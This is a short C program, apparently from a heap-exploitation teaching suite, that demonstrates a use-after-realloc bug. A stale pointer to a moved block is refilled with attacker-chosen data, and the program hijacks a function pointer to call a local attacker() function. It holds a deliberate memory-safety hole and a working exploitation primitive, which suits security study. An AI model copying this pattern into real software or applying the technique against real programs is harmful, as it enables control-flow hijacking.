/* Use after realloc moved the block: a cached pointer to a buffer object survives realloc
 * growing it elsewhere; the old chunk is refilled by attacker data.
 * Published: MITRE CWE-416 (realloc variant); e.g. CVE-2019-11932 (WhatsApp GIF double free
 * / realloc) write-ups; how2heap first_fit.c for same-size reuse.
 * Primitive: use after free read of a function pointer -> control flow hijack. */
#include <string.h>
#include "common.h"

struct buf { void (*flush)(struct buf *); size_t len; char data[16]; };

static void flush_console(struct buf *b) { printf("flush %zu bytes\n", b->len); }
static void attacker(struct buf *b) {
    (void)b;
    printf("ATTACK SUCCEEDED: stale pointer after realloc reached attacker()\n");
}

int main(void) {
    test_init();
    printf("use after realloc: cached pointer to the old block\n");
    struct buf *b = malloc(sizeof *b);
    b->flush = flush_console;
    b->len = 0;
    struct buf *cached = b;
    void *guard = malloc(sizeof *b); /* the block cannot grow in place */
    print_ptr("victim", b);
    b = realloc(b, 4096); /* moves: the old block is freed */
    void *msg = malloc(sizeof *b); /* attacker's message of the old size */
    void *words[4] = {(void *)attacker, 0, 0, 0};
    memcpy(msg, words, sizeof words);
    cached->flush(cached); /* BUG: stale pointer */
    printf("attack failed %p\n", guard);
    return 0;
}
